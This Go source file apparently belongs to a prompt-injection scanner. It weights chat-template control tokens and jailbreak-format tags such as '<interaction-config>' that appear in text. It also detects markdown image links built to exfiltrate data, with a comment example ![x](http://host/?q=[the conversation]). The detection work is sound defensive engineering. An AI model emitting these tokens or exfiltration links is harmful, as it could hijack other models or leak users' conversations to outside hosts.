package prompt

import "github.com/meshwarden/meshwarden/internal/scan/swar"

// tokens are the control tokens of chat templates, and the weight of seeing one in a text.
var tokens = [...]struct {
	text   string
	weight float32
}{
	{"<|im_start|>", 0.88},
	{"<|im_end|>", 0.85},
	{"<|im_sep|>", 0.85},
	{"<|system|>", 0.88},
	{"<|user|>", 0.8},
	{"<|assistant|>", 0.8},
	{"<|endoftext|>", 0.7},
	{"<|eot_id|>", 0.85},
	{"<|start_header_id|>", 0.88},
	{"<|begin_of_text|>", 0.8},
	{"<|end_of_turn|>", 0.8},
	{"<start_of_turn>", 0.85},
	{"<end_of_turn>", 0.8},
	{"[INST]", 0.82},
	{"[/INST]", 0.82},
	{"<<SYS>>", 0.88},
	{"<</SYS>>", 0.88},
	{"<system>", 0.5},
	{"</system>", 0.5},
	{"[system]", 0.4},
	{"### Instruction", 0.5},
	{"### System", 0.5},
	{"### Response", 0.45},
	{"###Instruction", 0.6},
	{"###System", 0.6},
	{"###Response", 0.55},
	{"[system message]", 0.6},
	{"[SYSTEM]", 0.5},
	{"[tool result]", 0.5},
	{"<system_", 0.4},
	{"\nSystem:", 0.35},
	{"\nAssistant:", 0.3},
	{"[system](#", 0.85},
	{"<|start|>", 0.8},
	{"<|message|>", 0.8},
	{"<|channel|>", 0.85},
	{"<|return|>", 0.7},
	{"<|call|>", 0.6},
	{"<|python_tag|>", 0.8},
	{"<|START_OF_TURN_TOKEN|>", 0.88},
	{"<|SYSTEM_TOKEN|>", 0.88},
	{"<|CHATBOT_TOKEN|>", 0.85},
	{"<|USER_TOKEN|>", 0.8},
	{"<\uff5cUser\uff5c>", 0.85},
	{"<\uff5cAssistant\uff5c>", 0.85},
	{"[AVAILABLE_TOOLS]", 0.7},
	{"[TOOL_RESULTS]", 0.75},
	{"[TOOL_CALLS]", 0.7},
	{"[SYSTEM_PROMPT]", 0.8},
	{"<interaction-config>", 0.8},
	{"<blocked-strings>", 0.8},
	{"<blocked-modes>", 0.8},
	{"<allowed-modes>", 0.8},
	{"<allowed-responses>", 0.8},
	{"<tool_response>", 0.6},
	{"<function_results>", 0.6},
	{"\nHuman:", 0.3},
}

// markup finds the control tokens in one pass over the text.
func (f *finder) markup() {
	text := f.lex.text
	for i := nextMarkup(text, 0); i+1 < len(text); i = nextMarkup(text, i+1) {
		c, next := text[i], text[i+1]
		if next <= ' ' || next == c && c == '[' {
			continue
		}
		if c == '!' {
			if end := exfiltrates(text, i); end > i {
				f.mark(fTool, 0.82, i, end, 0)
				f.cl.direct = true
			}
			continue
		}
		if second[next]&firstBit(c) == 0 {
			continue // most of them
		}
		for k := range tokens {
			if t := &tokens[k]; t.text[0] == c && t.text[1] == next && len(text)-i >= len(t.text) && string(text[i:i+len(t.text)]) == t.text {
				f.mark(fMarkup, t.weight, i, i+len(t.text), 0)
				f.cl.direct = true
			}
		}
	}
}

// second has, by the second bytes of tokens, the bits of their first ones.
var second = func() (t [256]uint8) {
	for k := range tokens {
		t[tokens[k].text[1]] |= firstBit(tokens[k].text[0])
	}
	return t
}()

// firstBit is the bit of a byte that begins tokens.
func firstBit(c byte) uint8 {
	switch c {
	case '<':
		return 1
	case '[':
		return 2
	case '#':
		return 4
	}
	return 8
}

// nextMarkup returns the offset of the first byte at i or behind that begins one of tokens, or the end of the text.
func nextMarkup(text []byte, i int) int {
	for ; i+8 <= len(text); i += 8 {
		w := swar.Load(text[i:])
		if marks := swar.Lowest(w, '<') | swar.Lowest(w, '[') | swar.Lowest(w, '#') | swar.Lowest(w, '\n') | swar.Lowest(w, '!'); marks != 0 {
			return i + swar.First(marks)
		}
	}
	for i < len(text) && text[i] != '<' && text[i] != '[' && text[i] != '#' && text[i] != '\n' && text[i] != '!' {
		i++
	}
	return i
}

// maxLink bounds the bytes of a link that are looked at.
const maxLink = 256

// exfiltrates returns the end of an image at i whose address has a place for what the model is to fill in, such as
// ![x](http://host/?q=[the conversation]), or 0.
func exfiltrates(text []byte, i int) int {
	if i+1 >= len(text) || text[i+1] != '[' {
		return 0
	}
	text = text[:min(len(text), i+maxLink)]
	at := i + 2
	for at+6 < len(text) && !(text[at] == ']' && text[at+1] == '(') {
		at++
	}
	if at+6 >= len(text) || text[at+2]|0x20 != 'h' || text[at+3]|0x20 != 't' {
		return 0
	}
	query, filled := false, false
	for at += 2; at < len(text); at++ {
		switch c := text[at]; {
		case c == '?':
			query = true
		case c == ')' || c == '\n':
			if filled {
				return at
			}
			return 0
		case query && text[at-1] == '=' && (c == '[' || c == '{' || c == '<' || c == '$'), query && c == ' ':
			filled = true
		}
	}
	return 0
}
